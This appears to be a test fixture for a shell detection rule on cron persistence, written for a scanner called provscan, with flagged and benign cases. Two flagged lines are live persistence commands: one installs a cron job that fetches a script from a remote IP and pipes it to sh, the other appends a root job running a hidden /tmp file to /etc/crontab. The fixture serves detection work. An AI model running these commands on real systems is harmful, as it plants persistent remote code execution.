# Fixture for sh.cron-persistence (written for provscan; not from any project).
# ruleid: sh.cron-persistence
(crontab -l; echo '*/5 * * * * curl -s http://203.0.113.9/p | sh') | crontab -
# ruleid: sh.cron-persistence
echo '* * * * * root /tmp/.x' >> /etc/crontab
# ok: sh.cron-persistence
crontab -l > backup.cron
# ok: sh.cron-persistence
# docs: run crontab -e to edit the schedule
